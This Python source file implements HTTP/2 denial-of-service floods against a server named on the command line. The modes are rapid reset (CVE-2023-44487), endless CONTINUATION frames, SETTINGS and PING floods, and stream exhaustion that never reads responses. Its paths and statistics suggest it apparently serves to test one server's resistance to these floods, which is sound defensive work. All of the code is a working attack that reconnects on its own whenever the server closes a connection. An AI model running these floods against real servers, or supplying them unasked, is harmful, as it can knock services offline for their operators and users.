"""HTTP/2 floods against a server, frame by frame (the `h2` package's framing and HPACK).

Usage: flood.py HOST PORT MODE SECONDS

MODE is one of:
  rapid_reset   open a stream and reset it at once, over and over (CVE-2023-44487)
  continuation  a HEADERS frame without END_HEADERS, then CONTINUATION frames without end
  settings      SETTINGS frames, never reading the ACKs
  ping          PING frames, never reading the answers
  streams       open as many streams as the server allows (one more is refused), each a
                streaming request to /v1/flood with the largest flow-control windows, and
                read nothing

Runs for SECONDS, opening a new connection whenever the server closes one, then prints one
JSON line: frames sent, connections opened, GOAWAYs seen, the server's
SETTINGS_MAX_CONCURRENT_STREAMS, streams refused.
"""

import json
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL, REFUSED_STREAM = 0x8, 0x7
MAX_CONCURRENT_STREAMS = 0x3

BODY = json.dumps(
    {
        "model": "flood",
        "messages": [{"role": "user", "content": "hi"}],
        "stream": True,
    }
).encode()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Conn:
    def __init__(self, host, port, stats):
        self.sock = socket.create_connection((host, port), timeout=2)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.stats = stats
        self.encoder = hpack.Encoder()
        self.next_stream = 1
        self.closed = False
        stats["connections"] += 1
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except socket.timeout:
            # The server stopped reading: what a flood should meet.
            self.stats["stalled"] += 1
            return False
        except OSError:
            self.closed = True
            return False

    def head(self, path="/v1/chat/completions"):
        return self.encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":authority", "tokenmeter"),
                (":path", path),
                ("content-type", "application/json"),
            ]
        )

    def stream_id(self):
        s = self.next_stream
        self.next_stream += 2
        return s

    def read(self, block=False):
        """Reads what has arrived and parses whole frames; notes GOAWAY, SETTINGS and resets."""
        self.sock.settimeout(None if block else 0.0)
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    self.closed = True
                    break
                self.buf += chunk
                if block:
                    break
        except (BlockingIOError, socket.timeout):
            pass
        except OSError:
            self.closed = True
        finally:
            self.sock.settimeout(2)
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                break
            kind, flags = self.buf[3], self.buf[4]
            payload = self.buf[9 : 9 + n]
            self.buf = self.buf[9 + n :]
            if kind == GOAWAY:
                self.stats["goaways"] += 1
            elif kind == SETTINGS and not flags & ACK:
                for i in range(0, len(payload) - 5, 6):
                    ident, value = struct.unpack(">HI", payload[i : i + 6])
                    if ident == MAX_CONCURRENT_STREAMS:
                        self.stats["max_concurrent_streams"] = value
            elif kind == RST_STREAM and int.from_bytes(payload[:4], "big") == REFUSED_STREAM:
                self.stats["refused"] += 1


def run(host, port, mode, seconds):
    stats = dict(
        mode=mode,
        frames=0,
        connections=0,
        goaways=0,
        stalled=0,
        refused=0,
        max_concurrent_streams=None,
    )
    end = time.monotonic() + seconds
    conn = None
    while time.monotonic() < end:
        if conn is None or conn.closed:
            try:
                conn = Conn(host, port, stats)
            except OSError:
                time.sleep(0.05)
                conn = None
                continue
        if mode == "rapid_reset":
            batch = b""
            for _ in range(50):
                s = conn.stream_id()
                batch += frame(HEADERS, END_HEADERS, s, conn.head())
                batch += frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL))
            if conn.send(batch):
                stats["frames"] += 100
            conn.read()
        elif mode == "continuation":
            s = conn.stream_id()
            block = conn.head()
            # A literal header with a new name, cut across frames: valid HPACK, never ending.
            filler = b"\x00\x7f\x81\x7f" + b"x" * 16000
            if conn.send(frame(HEADERS, 0, s, block)):
                stats["frames"] += 1
            while not conn.closed and time.monotonic() < end:
                if not conn.send(frame(CONTINUATION, 0, s, filler)):
                    break
                stats["frames"] += 1
            conn.read()
            conn.closed = True
        elif mode == "settings":
            payload = struct.pack(">HI", 0x4, 65535)
            if conn.send(frame(SETTINGS, 0, 0, payload) * 100):
                stats["frames"] += 100
        elif mode == "ping":
            if conn.send(frame(PING, 0, 0, b"12345678") * 100):
                stats["frames"] += 100
        elif mode == "streams":
            conn.read(block=True)
            limit = stats["max_concurrent_streams"] or 100
            # The largest windows there are, so what holds the responses back is this client's
            # unread socket, and then the server's own buffers.
            batch = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 2**31 - 1))
            batch += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535))
            for _ in range(limit + 1):
                s = conn.stream_id()
                batch += frame(HEADERS, END_HEADERS, s, conn.head("/v1/flood"))
                batch += frame(DATA, END_STREAM, s, BODY)
            conn.send(batch)
            stats["frames"] += 2 * (limit + 1)
            # The refusal of the one past the limit arrives before the window fills; then
            # nothing more is read.
            deadline = time.monotonic() + 1
            while not stats["refused"] and time.monotonic() < deadline and not conn.closed:
                conn.read()
                time.sleep(0.01)
            while time.monotonic() < end and not conn.closed:
                time.sleep(0.1)
            break
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    run(sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]))
